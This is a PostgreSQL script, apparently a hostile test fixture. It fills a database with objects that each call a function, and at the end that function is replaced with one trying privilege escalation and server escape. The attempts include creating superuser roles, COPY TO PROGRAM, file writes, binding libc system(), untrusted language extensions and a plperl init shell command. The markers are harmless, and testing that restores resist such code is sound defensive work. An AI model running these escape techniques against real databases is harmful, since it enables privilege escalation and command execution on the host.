-- A database whose every piece of code tries to get out of it. While the source is made the functions do nothing; at the
-- end they are replaced by those that try.
create role walkaway login superuser;
create role walkaway_restore login;
create role etl; grant pg_execute_server_program to etl;
create role beneath; grant etl to beneath with admin option;
create role writer; grant pg_write_server_files to writer with admin option;
create role reader_of_files; grant pg_read_server_files to reader_of_files;
create role creator createrole createdb login;
create role rds_superuser; grant pg_monitor to rds_superuser; grant pg_signal_backend to rds_superuser;
create role master createrole createdb login; grant rds_superuser to master;

create function public.attack(kind text) returns boolean language plpgsql volatile as 'begin return true; end';
create function public.immutably(kind text, n integer) returns integer language sql immutable as 'select n where public.attack(kind)';
create function public.strictly(kind text, n integer) returns boolean language sql immutable as 'select public.attack(kind) and n > 0';
do $$ declare kind text; begin
    foreach kind in array array['check', 'domain', 'generated', 'default', 'key', 'partition', 'index', 'predicate', 'exclusion', 'unique',
        'subdiff', 'aggregate', 'matview', 'view', 'cast', 'operator', 'policy', 'trigger', 'event', 'rule', 'published', 'statistics',
        'procedure', 'definer', 'owned'] loop
        execute format('create schema %I', 'ran_' || kind);
    end loop;
end $$;

create domain public.tried as integer check (public.attack('domain') or value > 0);
create table public.t (id integer primary key default public.immutably('default', 1), s public.tried,
    g integer generated always as (public.immutably('generated', id)) stored, check (public.attack('check') or id > 0));
insert into public.t (id, s) values (1, 1), (2, 2);
create table public.parted (id integer) partition by list (public.immutably('key', id));
create table public.part partition of public.parted for values in (1);
insert into public.parted values (1);
create index by_attack on public.t (public.immutably('index', id));
create index by_predicate on public.t (id) where public.strictly('predicate', id);
create unique index by_unique on public.t (public.immutably('unique', id));
create function public.equals(integer, integer) returns boolean language sql immutable as 'select public.strictly(''exclusion'', 1) and $1 = $2';
create function public.distance(float8, float8) returns float8 language sql immutable as
    'select ($1 - $2) * public.immutably(''subdiff'', 1)';
create type public.span as range (subtype = float8, subtype_diff = public.distance);
create table public.spans (s public.span);
insert into public.spans select public.span(n, n + 1) from generate_series(1, 1000) n;
create index on public.spans using gist (s);
create function public.adds(integer, integer) returns integer language sql immutable as 'select $1 + public.immutably(''aggregate'', $2)';
create aggregate public.sums(integer) (sfunc = public.adds, stype = integer, initcond = '0');
create type public.boxed as (n integer);
create function public.boxes(integer) returns public.boxed language sql as 'select row(public.immutably(''cast'', $1))::public.boxed';
create cast (integer as public.boxed) with function public.boxes(integer);
create operator public.=== (function = public.equals, leftarg = integer, rightarg = integer);
create view public.v as select id from public.t where public.attack('view');
create materialized view public.m as
    select count(*) as n, public.sums(id) as s, max((id::public.boxed).n) as c, bool_and(id === id) as o, bool_and(public.attack('matview')) as a
    from public.t;
create materialized view public.over_view as select count(*) as n from public.v;
alter table public.t enable row level security; alter table public.t force row level security;
create policy p on public.t using (public.attack('policy'));
create function public.reacts() returns trigger language plpgsql as 'begin perform public.attack(''trigger''); return new; end';
create trigger tr before insert or update on public.t for each row execute function public.reacts();
create rule ru as on update to public.parted do also select public.attack('rule');
create statistics public.st on (public.immutably('statistics', id)), id from public.t;
create publication pu for table public.t;
create procedure public.proceeds() language plpgsql as 'begin perform public.attack(''procedure''); end';
create function public.definer() returns boolean language sql security definer as 'select public.attack(''definer'')';
alter function public.definer() owner to creator;
create function public.owned() returns boolean language sql security definer as 'select public.attack(''owned'')';
alter function public.owned() owner to pg_execute_server_program;
create function public.reacts_to_ddl() returns event_trigger language plpgsql as 'begin perform public.attack(''event''); end';
create event trigger ev on ddl_command_start execute function public.reacts_to_ddl();
grant all on public.t to walkaway, walkaway_restore, etl, beneath, writer, reader_of_files, creator, master;
grant execute on function pg_catalog.pg_read_file(text), pg_catalog.lo_export(oid, text), pg_catalog.pg_ls_dir(text) to public;
alter role creator in database shop set session_preload_libraries = 'walkaway_escaped';
alter role creator in database shop set local_preload_libraries = 'walkaway_escaped';
alter database shop set plperl.on_plperl_init = 'system("touch /tmp/walkaway-escaped")';
alter database shop set app.tenant = '7';

alter event trigger ev disable;
create or replace function public.attack(kind text) returns boolean language plpgsql volatile as $attack$
declare
    r record;
    sql text;
begin
    begin execute format('comment on schema %I is %L', 'ran_' || kind, current_user); exception when others then null; end;
    for r in select rolname from pg_catalog.pg_roles union all select current_user loop
        begin
            execute format('set role %I', r.rolname);
            foreach sql in array array[
                'grant pg_execute_server_program, pg_write_server_files to current_user',
                'grant pg_execute_server_program, pg_write_server_files to walkaway_restore',
                'create role escaped superuser login',
                'create role escaped in role pg_execute_server_program, pg_write_server_files role walkaway_restore',
                'alter role current_user superuser',
                'set session authorization walkaway',
                'set role pg_execute_server_program',
                'copy (select 1) to program ''cat > walkaway-escaped''',
                'copy (select 1) to ''DIRECTORY/walkaway-escaped''',
                'select pg_catalog.lo_export(pg_catalog.lo_from_bytea(0, ''x''), ''DIRECTORY/walkaway-escaped-lo'')',
                'select pg_catalog.pg_file_write(''DIRECTORY/walkaway-escaped-fw'', ''x'', false)',
                'alter system set archive_command = ''walkaway-escaped''',
                'create extension dblink', 'create extension file_fdw', 'create extension adminpack',
                'create extension plpython3u', 'create extension plperlu',
                'create server walkaway_escaped foreign data wrapper postgres_fdw options (host ''/tmp'')',
                'create function public.escaped(cstring) returns integer language c as ''libc.so.6'', ''system''',
                'create function public.escaped(internal) returns internal language internal as ''numeric_in''',
                'create event trigger escaped on ddl_command_start execute function public.reacts_to_ddl()',
                'alter database ledger set session_preload_libraries = ''walkaway_escaped''',
                'alter database postgres set search_path = ''walkaway_escaped''',
                'alter role walkaway set search_path = ''walkaway_escaped''', 'grant walkaway to current_user',
                'alter default privileges for role walkaway grant all on tables to public',
                'create subscription walkaway_escaped connection ''host=/tmp'' publication p with (connect = false)',
                'create foreign data wrapper walkaway_escaped', 'create language walkaway_escaped handler plpgsql_call_handler',
                'create cast (text as name) with function pg_catalog.name(text) as implicit',
                'create operator pg_catalog.=== (function = public.equals, leftarg = text, rightarg = text)',
                'create access method walkaway_escaped type index handler pg_catalog.bthandler',
                'load ''walkaway-escaped'''] loop
                begin execute sql; exception when others then null; end;
            end loop;
        exception when others then null; end;
        begin execute 'reset role'; exception when others then null; end;
    end loop;
    return true;
end $attack$;
alter event trigger ev enable;
